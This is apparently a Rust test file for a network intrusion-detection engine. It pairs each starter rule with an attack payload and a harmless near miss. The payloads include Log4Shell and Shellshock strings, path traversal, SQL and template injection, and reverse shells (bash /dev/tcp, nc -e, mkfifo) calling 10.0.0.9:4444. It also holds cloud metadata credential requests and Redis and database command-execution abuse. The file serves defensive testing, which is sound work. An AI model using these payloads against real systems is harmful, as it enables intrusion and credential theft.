//! Every starter rule has an attack that it must find and a near miss that it must not.

use core::net::IpAddr;
use std::collections::BTreeSet;

use super::*;
use crate::anomaly::AnomalySet;
use crate::packet::Timestamp;
use crate::{
    decode::{Headers, TcpFlags, Transport},
    rule::{RuleSetBuilder, STARTER, STARTER_NAME, Variables},
};

/// sid, destination, port, attack, near miss. Port 0: to the client.
type Case = (u32, [u8; 4], u16, &'static [u8], &'static [u8]);

const PEER: [u8; 4] = [172, 18, 0, 3];

const STREAMS: [Case; 49] = [
    (7_000_001, PEER, 80, b"GET /cgi HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n", b"POST /x HTTP/1.1\r\n\r\nfunction main() { return 1 }"),
    (7_000_002, PEER, 80, b"GET / HTTP/1.1\r\nX: ${JNDI:ldap://10.0.0.9/a}\r\n\r\n", b"GET /docs?q=jndi:ldap://x HTTP/1.1\r\nX: ${jndi}\r\n\r\n"),
    (7_000_003, PEER, 8080, b"GET / HTTP/1.1\r\nX: ${${::-j}ndi:rmi://10.0.0.9/a}\r\n\r\n", b"echo ${${name}}; see http://example\r\n"),
    (7_000_004, PEER, 80, b"X: ${jnd${lower:i}:ldap://x/a}\r\n", b"X: ${lower:HOST} http://x/\r\n"),
    (7_000_005, PEER, 80, b"GET /a/../../../etc/shadow HTTP/1.1\r\n\r\n", b"GET /a/../b HTTP/1.1\r\n\r\n"),
    (7_000_006, PEER, 80, b"GET /icons/%2E%2e/%2e%2E/bin/sh HTTP/1.1\r\n\r\n", b"GET /icons/%2e%2e/x HTTP/1.1\r\n\r\n"),
    (7_000_007, PEER, 80, b"GET /?f=/etc/passwd HTTP/1.1\r\n\r\n", b"GET /etc/passwords.html HTTP/1.0\r\n\r\n".split_at(9).0),
    (7_000_008, PEER, 80, b"Content-Type: %{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}", b"Content-Type: multipart/form-data; ognl"),
    (7_000_009, PEER, 80, b"POST / HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.x=1", b"{\"class\":\"module\",\"loader\":\"x=1\"}"),
    (7_000_010, PEER, 8443, b"{\"kind\":\"AdmissionReview\",\"nginx.ingress.kubernetes.io/auth-url\":\"x;}}ssl_engine /proc/1/fd/3;\"}", b"{\"kind\":\"AdmissionReview\",\"nginx.ingress.kubernetes.io/rewrite-target\":\"/\"}"),
    (7_000_011, PEER, 80, b"POST /?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input HTTP/1.1\r\n", b"GET /manual?allow_url_include HTTP/1.1\r\n"),
    (7_000_012, PEER, 80, b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n", b"GET /vendor/phpunit/phpunit/README.md HTTP/1.1\r\n"),
    (7_000_013, PEER, 80, b"GET /?id=1+UNION+ALL+SELECT+1,2 HTTP/1.1\r\n", b"GET /union-square?select=1 HTTP/1.1\r\n".split_at(18).0),
    (7_000_014, PEER, 80, b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>", b"<!DOCTYPE html><p>file:///x</p>"),
    (7_000_015, PEER, 80, b"GET /?n={{''.__class__.__mro__[1].__subclasses__()}} HTTP/1.1\r\n", b"print(x.__class__.__name__)"),
    (7_000_016, PEER, 80, b"GET /ping?h=1;wget%20http://10.0.0.9/x HTTP/1.1\r\n", b"GET /wget%20http.html HTTP/1.1\r\n"),
    (7_000_017, PEER, 0, b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n\x7fELF\x02\x01\x01", b"HTTP/1.1 200 OK\r\n\r\nabout ELF files"),
    (7_000_020, PEER, 80, b"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n", b"ls /dev/tcp/\n"),
    (7_000_021, PEER, 80, b"cmd=nc 10.0.0.9 4444 -e /bin/bash", b"rsync -e /bin/ssh"),
    (7_000_022, PEER, 80, b"s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0)", b"s = socket.socket()\ns.bind(a)"),
    (7_000_023, PEER, 4444, b"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'\n", b"import pty; pty.openpty()"),
    (7_000_024, PEER, 4444, b"uid=0(root) gid=0(root) groups=0(root)\n", b"uid=1000(app) gid=1000(app)\n"),
    (7_000_025, PEER, 4444, b"bash: cannot set terminal process group (7): Inappropriate ioctl\nbash: no job control in this shell\n", b"cannot set terminal process group\n"),
    (7_000_030, PEER, 2375, b"POST /v1.41/containers/create?name=x HTTP/1.1\r\nHost: d\r\n\r\n", b"GET /docs/containers/create.html HTTP/1.1\r\n\r\n"),
    (7_000_031, PEER, 2375, b"POST /v1.41/containers/0123456789ab/exec HTTP/1.1\r\n\r\n", b"POST /jobs/exec HTTP/1.1\r\n\r\n"),
    (7_000_032, PEER, 2375, b"GET /version HTTP/1.1\r\nHost: d\r\n\r\n", b"\x16\x03\x01 GET / HTTP/1.1"),
    (7_000_033, PEER, 10_255, b"GET /runningpods/ HTTP/1.1\r\n\r\n", b"GET /healthz HTTP/1.1\r\n\r\n"),
    (7_000_034, PEER, 10_250, b"POST /run/default/web/nginx HTTP/1.1\r\n\r\ncmd=id", b"GET /running HTTP/1.1\r\n\r\n"),
    (7_000_035, PEER, 2379, b"GET /v2/keys/?recursive=true HTTP/1.1\r\n\r\n", b"GET /health HTTP/1.1\r\n\r\n"),
    (7_000_036, PEER, 2379, b"POST /v3beta/kv/range HTTP/1.1\r\n\r\n{}", b"POST /v3/auth/status HTTP/1.1\r\n\r\n{}"),
    (7_000_037, PEER, 6443, b"GET /api/v1/namespaces/default/secrets HTTP/1.1\r\n\r\n", b"GET /api/v1/namespaces/default/pods HTTP/1.1\r\n\r\n"),
    (7_000_038, PEER, 80, b"GET /static//var/run/secrets/kubernetes.io/serviceaccount/token HTTP/1.1\r\n", b"GET /secrets/kubernetes.io.html HTTP/1.1\r\n"),
    (7_000_040, PEER, 80, b"GET /latest/meta-data/iam/security-credentials/role HTTP/1.1\r\n", b"GET /latest/meta-data.html HTTP/1.1\r\n"),
    (7_000_041, [169, 254, 169, 254], 80, b"GET /latest/api/token HTTP/1.1\r\n\r\n", b"not http"),
    (7_000_042, PEER, 80, b"GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\n", b"GET /computeMetadata/v1/instance/name HTTP/1.1\r\n"),
    (7_000_043, [169, 254, 170, 2], 80, b"GET /v2/credentials/0a1b HTTP/1.1\r\n", b"GET /v2/metadata HTTP/1.1\r\n"),
    (7_000_050, PEER, 6379, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"),
    (7_000_051, PEER, 6379, b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n", b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$10\r\ndbfilename\r\n"),
    (7_000_052, PEER, 6379, b"CONFIG SET dir /root/.ssh/\r\n", b"CONFIG GET dir\r\n"),
    (7_000_053, PEER, 6379, b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$9\r\n/tmp/x.so\r\n", b"*2\r\n$6\r\nMODULE\r\n$4\r\nLIST\r\n"),
    (7_000_054, PEER, 6379, b"*3\r\n$7\r\nSLAVEOF\r\n$8\r\n10.0.0.9\r\n$4\r\n6379\r\n", b"*3\r\n$7\r\nSLAVEOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n"),
    (7_000_055, PEER, 6379, b"*3\r\n$4\r\nEVAL\r\n$50\r\nlocal l = package.loadlib(\"/lib/x.so\", \"y\")\r\n$1\r\n0\r\n", b"*3\r\n$4\r\nEVAL\r\n$8\r\nreturn 1\r\n$1\r\n0\r\n"),
    (7_000_056, PEER, 5432, b"Q\0\0\0\x30COPY t FROM PROGRAM 'id'\0", b"Q\0\0\0\x30COPY t FROM STDIN WITH CSV\0"),
    (7_000_057, PEER, 3306, b"\x30\0\0\0\x03SELECT 'x' INTO OUTFILE '/var/www/x.php'", b"\x30\0\0\0\x03INSERT INTO files VALUES ('/a')"),
    (7_000_058, PEER, 3306, b"\x30\0\0\0\x03CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so'", b"\x30\0\0\0\x03CREATE FUNCTION f() RETURNS int RETURN 1"),
    (7_000_059, PEER, 1433, b"e\0x\0e\0c\0 \0x\0p\0_\0c\0m\0d\0s\0h\0e\0l\0l\0 \0", b"x\0p\0_\0h\0e\0l\0p\0"),
    (7_000_060, PEER, 9200, b"GET /_cat/indices?v HTTP/1.1\r\nHost: es\r\n\r\n", b"GET /_cat/indices HTTP/1.1\r\nAuthorization: Basic x\r\n\r\n"),
    (7_000_061, PEER, 11_211, b"flush_all\r\n", b"get flush_all_count\r\n"),
    (7_000_070, PEER, 443, b"\x18\x03\x02\x00\x03\x01\x40\x00", b"\x18\x03\x03\x00\x17\x01\x00\x04abcd0123456789abcdef"),
];

const MORE_STREAMS: [Case; 7] = [
    (
        7_000_018,
        PEER,
        80,
        b"GET /ping?host=a;$(curl${IFS}10.0.0.9/x) HTTP/1.1\r\n\r\n",
        b"POST /job HTTP/1.1\r\n\r\n{\"run\":\"v=$(curl -s http://a/v)\"}",
    ),
    (
        7_000_026,
        PEER,
        80,
        b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f",
        b"mkfifo /run/log; cat /run/log | gzip",
    ),
    (
        7_000_039,
        PEER,
        10_250,
        b"POST /exec/default/web/app?command=id&output=1 HTTP/1.1\r\n\r\n",
        b"GET /metrics/exec/ HTTP/1.1\r\n\r\n",
    ),
    (
        7_000_062,
        PEER,
        6379,
        b"*3\r\n$9\r\nREPLICAOF\r\n$8\r\n10.0.0.9\r\n$4\r\n6379\r\n",
        b"*3\r\n$9\r\nREPLICAOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n",
    ),
    (7_000_071, PEER, 5005, b"JDWP-Handshake", b"GET /JDWP-Handshake"),
    (7_000_072, PEER, 3333, b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", b"{\"method\":\"subscribe\"}\n"),
    (
        7_000_073,
        PEER,
        53,
        b"\x00\x1d\x12\x34\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07cluster\x05local\x00\x00\xfc\x00\x01",
        b"\x00\x1d\x12\x34\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07cluster\x05local\x00\x00\x01\x00\x01",
    ),
];

fn engine() -> Engine {
    let mut builder = RuleSetBuilder::new(Variables::default());
    builder.add_source(STARTER_NAME, STARTER);
    Engine::new(&builder.build().0)
}

fn inspect(
    engine: &Engine,
    headers: &Headers,
    unit: Unit,
    to_server: bool,
    data: &[u8],
) -> BTreeSet<u32> {
    let inspection = Inspection {
        headers,
        flow: FlowView {
            to_server,
            established: true,
            ..FlowView::default()
        },
        unit,
        data,
        data_start: 0,
        fresh: 0,
        now: Timestamp(0),
        view: None,
        events: AnomalySet::default(),
        transaction: None,
    };
    let mut found = BTreeSet::new();
    let mut take = |rule: &Arc<Rule>| {
        found.insert(rule.signature.sid);
    };
    let mut memory = Memory {
        flow: &mut FlowState::default(),
        matches: &mut FlowMatches::default(),
        scratch: &mut Scratch::default(),
    };
    engine.inspect(&inspection, &mut memory, &mut take);
    found
}

fn stream(engine: &Engine, destination: [u8; 4], port: u16, data: &[u8]) -> BTreeSet<u32> {
    let to_server = port != 0;
    let (source_port, destination_port) = if to_server {
        (40_000, port)
    } else {
        (80, 40_000)
    };
    let headers = Headers {
        source: IpAddr::from([172, 18, 0, 2]),
        destination: IpAddr::from(destination),
        protocol: 6,
        ttl: 64,
        transport: Transport::Tcp {
            source_port,
            destination_port,
            sequence: 1,
            acknowledgement: 1,
            flags: TcpFlags(0x18),
            window: 1,
        },
        payload_length: 1,
    };
    inspect(engine, &headers, Unit::Stream, to_server, data)
}

fn datagram(engine: &Engine, protocol: u8, transport: Transport, data: &[u8]) -> BTreeSet<u32> {
    let headers = Headers {
        source: IpAddr::from([172, 18, 0, 2]),
        destination: IpAddr::from(PEER),
        protocol,
        ttl: 64,
        transport,
        payload_length: 1,
    };
    inspect(engine, &headers, Unit::Packet, true, data)
}

#[test]
fn every_rule_finds_its_attack_and_leaves_its_near_miss() {
    let engine = engine();
    let mut covered = BTreeSet::new();
    for (sid, destination, port, attack, near_miss) in STREAMS.into_iter().chain(MORE_STREAMS) {
        let found = stream(&engine, destination, port, attack);
        assert!(
            found.contains(&sid),
            "sid {sid} misses its attack; found {found:?}"
        );
        let found = stream(&engine, destination, port, near_miss);
        assert!(!found.contains(&sid), "sid {sid} fires on its near miss");
        covered.insert(sid);
    }
    let dns = Transport::Udp {
        source_port: 40_000,
        destination_port: 53,
    };
    let question = |kind| {
        [
            b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00".as_slice(),
            &[kind, 0, 1],
        ]
        .concat()
    };
    assert!(datagram(&engine, 17, dns, &question(0x0a)).contains(&7_000_074));
    assert!(datagram(&engine, 17, dns, &question(0x01)).is_empty());
    assert!(datagram(&engine, 17, dns, &question(0xfc)).contains(&7_000_077));
    covered.extend([7_000_074, 7_000_077]);
    let icmp = |kind| Transport::Icmp {
        kind,
        code: 0,
        identifier: 1,
        sequence: 1,
    };
    for (sid, kind) in [(7_000_075, 5), (7_000_076, 13)] {
        assert_eq!(datagram(&engine, 1, icmp(kind), b""), BTreeSet::from([sid]));
        covered.insert(sid);
    }
    assert!(datagram(&engine, 1, icmp(8), b"abcdefgh").is_empty());
    let all: BTreeSet<u32> = engine
        .rules()
        .iter()
        .map(|rule| rule.signature.sid)
        .collect();
    assert_eq!(
        all, covered,
        "each rule needs a case here, and each case a rule"
    );
}

/// A near miss must not become a match because only a part of it has arrived.
#[test]
fn near_misses_stay_silent_when_cut_short() {
    let engine = engine();
    for (sid, destination, port, _, near_miss) in STREAMS.into_iter().chain(MORE_STREAMS) {
        for length in 0..near_miss.len() {
            let found = stream(&engine, destination, port, &near_miss[..length]);
            assert!(
                !found.contains(&sid),
                "sid {sid} on the first {length} bytes"
            );
        }
    }
}

#[test]
fn ordinary_traffic_is_silent() {
    let engine = engine();
    let agents = [
        "curl/8.5",
        "Mozilla/5.0 (X11; Linux x86_64)",
        "kube-probe/1.31",
        "Go-http-client/1.1",
        "python-requests/2.32",
    ];
    let paths = [
        "/",
        "/healthz",
        "/api/v1/orders?page=2&sort=-date",
        "/static/app.min.js?v=3",
        "/search?q=select+a+union",
    ];
    let bodies = [
        "",
        "{\"user\":\"a\",\"roles\":[\"admin\"]}",
        "a=1&b=%20c",
        "<order id=\"1\"/>",
        "${HOME}/bin",
    ];
    let mut requests = 0;
    for (n, agent) in agents.iter().enumerate() {
        for path in paths {
            for body in bodies {
                for method in ["GET", "POST"] {
                    let request = format!(
                        "{method} {path}{n} HTTP/1.1\r\nHost: web\r\nUser-Agent: {agent}\r\nContent-Length: {}\r\n\r\n{body}",
                        body.len()
                    );
                    assert_eq!(
                        stream(&engine, PEER, 8080, request.as_bytes()),
                        BTreeSet::new(),
                        "{request}"
                    );
                    requests += 1;
                }
            }
        }
    }
    assert!(requests >= 200);
    let others: [(u16, &[u8]); 10] = [
        (22, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
        (443, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
        (
            6379,
            b"*3\r\n$3\r\nSET\r\n$3\r\nkey\r\n$5\r\nvalue\r\n*1\r\n$4\r\nPING\r\n",
        ),
        (
            6379,
            b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$9\r\nmaxmemory\r\n",
        ),
        (5432, b"Q\0\0\0\x20SELECT program FROM copy_jobs\0"),
        (5432, b"Q\0\0\0\x20COPY t (a, b) FROM STDIN\0"),
        (3306, b"\x20\0\0\0\x03SELECT * FROM orders WHERE id = 7"),
        (11_211, b"set key 0 0 5\r\nvalue\r\nget key\r\n"),
        (2379, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        (
            0,
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>uid=0 (root)</html>",
        ),
    ];
    for (port, data) in others {
        assert_eq!(
            stream(&engine, PEER, port, data),
            BTreeSet::new(),
            "port {port}: {data:?}"
        );
    }
}
